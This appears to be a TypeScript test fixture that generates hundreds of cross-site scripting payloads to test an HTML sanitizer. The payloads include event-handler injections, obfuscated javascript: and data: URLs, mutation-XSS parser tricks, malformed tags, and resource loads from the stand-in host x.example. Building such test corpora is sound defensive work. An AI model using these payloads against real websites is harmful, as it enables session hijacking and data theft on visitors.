// Many more hostile texts, made of parts: handlers on elements, schemes in attributes, and markup that browsers parse in
// another way than most programs. Each tries to call `owned()`.
import { XSS_CASES } from './xss-cases.ts'

const HANDLERS: readonly (readonly [element: string, events: string])[] = [
  ['<body %>x</body>', 'onload onpageshow onhashchange onfocus onresize onscroll onmessage onunload'],
  ['<img src=x %>', 'onerror onload onloadstart onloadend onclick onpointerenter ondragstart'],
  ['<a href="#" %>x</a>', 'onclick onmouseover onmouseenter onfocus onauxclick oncontextmenu ondblclick onpointerdown'],
  [
    '<div tabindex=0 autofocus %>x</div>',
    'onfocus onfocusin onblur onkeydown onwheel oncopy onbeforecopy onpaste ondrag',
  ],
  [
    '<p style="animation:x 1s;transition:all 1s" %>x</p>',
    'onanimationstart onanimationend ontransitionend ontransitionrun',
  ],
  [
    '<video autoplay src=x %></video>',
    'onerror onloadstart oncanplay onplay ontimeupdate onprogress onsuspend onstalled',
  ],
  ['<audio controls src=x %></audio>', 'onerror onloadedmetadata onended onvolumechange'],
  ['<details open %><summary>x</summary></details>', 'ontoggle onclick onbeforetoggle'],
  ['<input autofocus %>', 'onfocus oninput onchange onselect oninvalid onsearch onbeforeinput'],
  ['<svg %><path d="M0"/></svg>', 'onload onclick onbegin onend onrepeat'],
  ['<marquee %>x</marquee>', 'onstart onfinish onbounce'],
  ['<table %><tr><td %>x</td></tr></table>', 'onclick onscrollend onpointerrawupdate'],
]

function handlerCases(): string[] {
  return HANDLERS.flatMap(([element, events]) =>
    events.split(' ').map((event, n) => {
      const written = [
        `${event}=owned()`,
        `${event.toUpperCase()}="owned()"`,
        `${event}\n=\n'owned()'`,
        `/${event}=owned()//`,
      ]
      return element.replaceAll('%', written[n % written.length] ?? '')
    }),
  )
}

const SCRIPT_ADDRESSES = [
  'javascript:owned()',
  'JaVaScRiPt:owned()',
  ' \u0001javascript:owned()',
  'java\nscript:owned()',
  'java&Tab;script:owned()',
  'javascript&colon;owned&lpar;&rpar;',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;owned()',
  'javascript://%0aowned()',
  'data:text/html,<script>parent.owned()</script>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Lm93bmVkKCkiLz4=',
  'vbscript:owned()',
  'blob:owned()',
  'view-source:javascript:owned()',
  'feed:javascript:owned()',
]
const ADDRESS_PLACES = [
  '<a href="%">x</a>',
  '<img src="%"><img srcset="% 1x"><img data-src="%">',
  '<video src="%" poster="%"><source src="%"></video>',
  '<blockquote cite="%">x</blockquote><q cite="%">y</q>',
  '<iframe src="%"></iframe><embed src="%"><object data="%"></object>',
  '<form action="%"><button formaction="%">x</button></form>',
  '<svg><a href="%" xlink:href="%"><text y=9>x</text></a><image href="%"/></svg>',
  '<math><mi href="%" xlink:href="%">x</mi></math>',
]

function addressCases(): string[] {
  return ADDRESS_PLACES.flatMap((place, n) =>
    SCRIPT_ADDRESSES.filter((_, at) => (at + n) % 2 === 0).map((address) => place.replaceAll('%', address)),
  )
}

const PAYLOAD = '<img src=x onerror=owned()>'
/** Where a parser may be led to another reading of what follows. */
const AROUND = [
  '<svg><style>%</style></svg>',
  '<svg><desc>%</desc></svg>',
  '<svg><title>%</title></svg>',
  '<svg><foreignObject><p>%</p></foreignObject></svg>',
  '<svg><p><style><!--</style>%--></style></p></svg>',
  '<math><annotation-xml encoding="text/html">%</annotation-xml></math>',
  '<math><mi><style><!--</style>%--></style></mi></math>',
  '<math><mtext><mglyph><style><!--</style>%</style></mglyph></mtext></math>',
  '<math><mtext><table><mglyph><style><math>%</math></style></mglyph></table></mtext></math>',
  '<noscript><style></noscript>%</style>',
  '<noscript><!--</noscript>%--></noscript>',
  '<noframes><p title="</noframes>%"></noframes>',
  '<noembed><p title="</noembed>%"></noembed>',
  '<iframe><p title="</iframe>%"></iframe>',
  '<xmp><p title="</xmp>%"></xmp>',
  '<textarea><p title="</textarea>%"></textarea>',
  '<title><p title="</title>%"></title>',
  '<select><option><style></option></select>%</style>',
  '<select><keygen>%</select>',
  '<table><tr><td><svg><style><td>%</td></style></svg></td></tr></table>',
  '<table><caption><svg><desc><table>%</table></desc></svg></caption></table>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>%">',
  '<div><template><style></template>%</style></div>',
  '<template><template>%</template></template>',
  '<p title="--><!--">x<!--"></p>%-->',
  '<!--!> %-->',
  '<!-- --!>%<!-- -->',
  '<!--><b title="-->%">',
  '<![CDATA[ ]]>%<![CDATA[ ]]>',
  '<svg><![CDATA[<style>]]>%<![CDATA[</style>]]></svg>',
  '<?x ?>%<?x >',
  '<%%>%<% %>',
  '<a title="&quot;>%">x</a>',
  "<a title='\"'%'>x</a>",
  '<a title=`>%`>x</a>',
  '<img alt="</p>%" src="x">',
  '<code>&lt;/code&gt;%</code>',
  '<pre>\n<listing>%</listing></pre>',
  '<b><a><b><a><table><a>%</a></table></a></b></a></b>',
  '<p><p><h1><ul><li></h1><p>%</ul>',
  '<a href="https://e.example/"><a href="%"></a></a>',
  '<ruby><rt><ruby><rtc>%</rtc></ruby></rt></ruby>',
  '<plaintext>%',
  '</br%></br>',
  '</p title="%">',
  '<frameset><frame title="%"></frameset>',
  '<isindex prompt="%">',
  '<x-a is="p" %></x-a>',
]

function surroundedCases(): string[] {
  const encoded = PAYLOAD.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
  return AROUND.flatMap((around) => [around.replaceAll('%', PAYLOAD), around.replaceAll('%', encoded)])
}

const BROKEN = [
  '<img src=x onerror=owned()',
  '<img src=x onerror=owned() <p>',
  '<<img src=x onerror=owned()>',
  '<\0img src=x onerror=owned()>',
  '<img\0src=x\0onerror=owned()>',
  '<im\0g src=x onerror=owned()>',
  '<img src="x\0" onerror="owned()">',
  '<img src=x onerror\0=owned()>',
  '<img src=x onerror="&#111;wned()">',
  '<img src=x title="a"onerror="owned()"b="',
  '<img src=x =onerror=owned()>',
  '<img src=x onerror=owned() onerror=owned()>',
  '<script\n>owned()</script\n>',
  '<script>owned()',
  '<script/src=data:,owned()>',
  '<scrıpt>owned()</scrıpt><ſcript>owned()</ſcript>',
  '<script><!--<script>owned()</script>--></script>',
  '<script type=module>owned()</script><script type=text/javascript>owned()</script>',
  '<link rel=import href="data:text/html,<script>parent.owned()</script>">',
  '<link rel=stylesheet href="data:text/css,*{background:url(//x.example/c)}">',
  '<style>@import "//x.example/s.css";*{background:url(//x.example/b)}</style>',
  '<div style="background:url(//x.example/d)">x</div>',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>parent.owned()</script>">',
  '<meta http-equiv=Set-Cookie content="a=b"><base target=_top href=//x.example/>',
  '<portal src="//x.example/"></portal><fencedframe></fencedframe>',
  '<object type="text/html" data="data:text/html,<script>parent.owned()</script>"></object>',
  '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=parent.owned() xmlns=http://www.w3.org/2000/svg/>">',
  '<applet code=x archive="//x.example/a"></applet>',
  '<svg><set attributeName=onmouseover to=owned()></svg>',
  '<svg><animate attributeName=xlink:href values="javascript:owned()" begin=0s /></svg>',
  '<svg><use xlink:href="data:image/svg+xml,<svg id=x><script>owned()</script></svg>#x"/></svg>',
  '<svg><handler type="text/javascript">owned()</handler></svg>',
  '<svg><script href="data:,owned()"/></svg><svg><script xlink:href="data:,owned()"></script></svg>',
  '<math><maction actiontype="statusline#http://x.example" xlink:href="javascript:owned()">x</maction></math>',
  `${'<b>'.repeat(120)}<img src=x onerror=owned()>`,
  `${'<math><mtext>'.repeat(40)}<style><img src=x onerror=owned()>`,
  '{{constructor.constructor("owned()")()}}<p v-html="owned()" ng-app x-init="owned()" hx-on:load="owned()">x</p>',
  '<a id=owned name=owned href="https://e.example/"></a><form id=document><input name=cookie></form>',
  '<p is="x-script" slot="x" part="y" nonce="z" contenteditable onbeforeinput=owned()>x</p>',
  '+ADw-script+AD4-owned()+ADw-/script+AD4-',
  '\u00bcscript\u00beowned()\u00bc/script\u00be',
  '&lt;script&gt;owned()&lt;/script&gt;&amp;lt;img src=x onerror=owned()&amp;gt;',
]

/** Each once. */
export const ALL_XSS_CASES: readonly string[] = [
  ...new Set([
    ...XSS_CASES.map(([, html]) => html),
    ...handlerCases(),
    ...addressCases(),
    ...surroundedCases(),
    ...BROKEN,
  ]),
]
